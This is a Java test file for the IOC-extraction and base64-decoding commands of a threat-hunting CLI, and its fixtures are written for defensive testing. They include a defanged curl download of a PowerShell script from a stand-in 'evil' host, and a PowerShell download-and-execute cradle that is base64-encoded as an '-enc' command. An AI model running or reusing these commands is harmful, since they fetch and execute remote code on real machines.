package dev.hunt4j.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The analysis commands end to end through the command line. */
class AnalysisCommandsTest {
    @TempDir
    Path dir;

    @Test
    void iocExtractWritesOneRowPerRowTypeAndObservable() throws Exception {
        Path in = dir.resolve("cmd.csv");
        Files.writeString(in, """
                Host,CommandLine
                WKS-01,"curl hxxp://evil[.]example.net/a.ps1 -o C:\\\\Temp\\\\a.ps1"
                WKS-02,ping 10.0.19041.1
                WKS-03,"connect 203.0.113.5, mail bob@contoso.com"
                """);
        Path out = dir.resolve("iocs.csv");
        CliTest.Run r = CliTest.run("ioc", "extract", "--input", in.toString(), "--columns", "CommandLine", "--output", out.toString(),
                "--format", "csv");
        assertEquals(0, r.code(), r.err());
        List<String> lines = Files.readAllLines(out);
        assertEquals("IoCType,Observable,SourceIndex,Input", lines.get(0));
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("url,http://evil.example.net/a.ps1,0,")), lines.toString());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("ipv4,203.0.113.5,2,")), lines.toString());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("email,bob@contoso.com,2,")), lines.toString());
        assertTrue(lines.stream().noneMatch(l -> l.contains(",1,")), "a build number is not an IP: " + lines);
    }

    @Test
    void iocExtractNamesAMissingColumn() throws Exception {
        Path in = dir.resolve("x.csv");
        Files.writeString(in, "A,B\n1,2\n");
        CliTest.Run r = CliTest.run("ioc", "extract", "--input", in.toString(), "--columns", "CommandLine", "--format", "csv");
        assertEquals(2, r.code(), r.out());
        assertTrue(r.err().contains("CommandLine"), r.err());
    }

    @Test
    void b64DecodesPowerShellEncodedCommands() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://nvcdn-sync.net/x.ps1')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        CliTest.Run r = CliTest.run("b64", "--text", "powershell.exe -nop -enc " + encoded);
        assertEquals(0, r.code(), r.err());
        assertTrue(r.out().contains(script), r.out());
    }
}
